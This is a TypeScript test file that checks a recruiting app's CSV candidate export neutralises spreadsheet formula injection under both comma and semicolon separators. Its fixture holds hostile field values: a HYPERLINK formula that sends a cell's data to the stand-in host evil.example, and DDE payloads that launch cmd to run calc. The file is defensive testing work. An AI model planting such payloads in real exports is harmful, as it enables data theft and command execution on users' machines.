/**
 * Issue 11, finding 9: a CSV the product writes cannot smuggle a formula into a spreadsheet,
 * whichever list separator the reader's locale uses (`,` or `;`, as in most of Europe).
 */
import { SELF } from 'cloudflare:test'
import { eq } from 'drizzle-orm'
import { beforeAll, describe, expect, it } from 'vitest'
import { candidates } from '../../../worker/db/schema'
import { csvCell, toCsv } from '../../../worker/lib/tabular'
import { as, db, HOST, seed } from '../../setup/http'

/** CSV -> rows of cells, RFC 4180 quoting, with the separator a spreadsheet's locale would use. */
function parseCsv(text: string, separator: ',' | ';'): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let cell = ''
  let quoted = false
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') (cell += '"'), i++
      else if (ch === '"') quoted = false
      else cell += ch
    } else if (ch === '"' && cell === '') quoted = true
    else if (ch === separator) row.push(cell), (cell = '')
    else if (ch === '\n') row.push(cell.replace(/\r$/, '')), rows.push(row), (row = []), (cell = '')
    else cell += ch
  }
  if (cell || row.length) row.push(cell), rows.push(row)
  return rows
}

/** What a spreadsheet would run: a cell starting with = + - @, tab or CR (a bare number is a number). */
const isFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^[+-]?[\d\s().-]+$/.test(cell)

const HOSTILE = {
  firstName: '=HYPERLINK("http://evil.example/?d="&C2,"Open")',
  lastName: 'Fischer',
  location: "Berlin;=1+cmd|' /C calc'!A0",
  currentCompany: "@SUM(1+1)*cmd|' /C calc'!A0",
  currentTitle: "+1+cmd|' /C calc'!A0",
  qualification: '\t=1+1',
  summary: 'fine',
  skills: ["-2+3+cmd|' /C calc'!A0", 'React'],
}

describe('csvCell', () => {
  it.each([
    ['plain', 'plain'],
    ['a,b', '"a,b"'],
    ['a;b', '"a;b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    ['=1+1', "'=1+1"],
    ['+1+cmd', "'+1+cmd"],
    ['-2+3+cmd', "'-2+3+cmd"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', "'\t=1"],
    ['\r=1', `"'\r'=1"`],
    // Read with ";", a field starts after every ";" and line break inside the text.
    ['a;=1+1', `"a;'=1+1"`],
    ['=a;b', `"'=a;b"`],
    ['x;-2+cmd;@y', `"x;'-2+cmd;'@y"`],
    ['one\n=two', `"one\n'=two"`],
    ['a; =spaced', '"a; =spaced"'],
    // Phone numbers and negative numbers are data, not formulas.
    ['+1 (512) 555-0132', '+1 (512) 555-0132'],
    ['-42', '-42'],
  ])('%j -> %j', (input, expected) => {
    expect(csvCell(input)).toBe(expected)
  })

  it('a row\'s first cell is neutralised even when it looks like a number (a ";" reader runs it on into the next cells)', () => {
    expect(csvCell('+1 555 0100', true)).toBe("'+1 555 0100")
    expect(csvCell('+1 555 0100', false)).toBe('+1 555 0100')
  })
})

/** The cell as written, without the apostrophes that neutralised it. */
const unneutralised = (cell: string) => cell.replace(/(^|[;\r\n])'(?=[=+\-@\t\r])/g, '$1')

describe('toCsv', () => {
  it('reads back to the same cells with "," and has no formula cell when read with ";"', () => {
    const rows = [Object.values(HOSTILE).map(String)]
    const columns = Object.keys(HOSTILE).map((header, i) => ({ header, value: (r: string[]) => r[i] }))
    const text = new TextDecoder().decode(toCsv(rows, columns))
    const comma = parseCsv(text, ',')
    expect(comma[1]!.map(unneutralised)).toEqual(rows[0])
    for (const cell of parseCsv(text, ';').flat()) expect(isFormula(cell), cell).toBe(false)
  })
})

describe('the candidate export', () => {
  beforeAll(async () => {
    await seed()
    await db().update(candidates).set(HOSTILE).where(eq(candidates.email, 'lena.fischer@example.org'))
  })

  it('neutralises every formula, read with "," or with ";"', async () => {
    const cookie = await as.acmeOwner()
    const res = await SELF.fetch(
      `http://${HOST.acme}/api/v1/wildcard/candidates/export/details?format=csv&search=Fischer`,
      { headers: { cookie } },
    )
    expect(res.status).toBe(200)
    const text = await res.text()
    for (const separator of [',', ';'] as const) {
      const cells = parseCsv(text, separator).flat()
      const offending = cells.filter(isFormula)
      expect(offending, `read with "${separator}"`).toEqual([])
    }
    const [header, row] = parseCsv(text, ',')
    const cell = (name: string) => row![header!.indexOf(name)]
    expect(cell('Name')).toBe(`'${HOSTILE.firstName} Fischer`)
    expect(cell('Location')).toBe("Berlin;'=1+cmd|' /C calc'!A0")
    expect(cell('Current company')).toBe(`'${HOSTILE.currentCompany}`)
    expect(cell('Skills')).toBe(`'${HOSTILE.skills.join(', ')}`)
  })
})
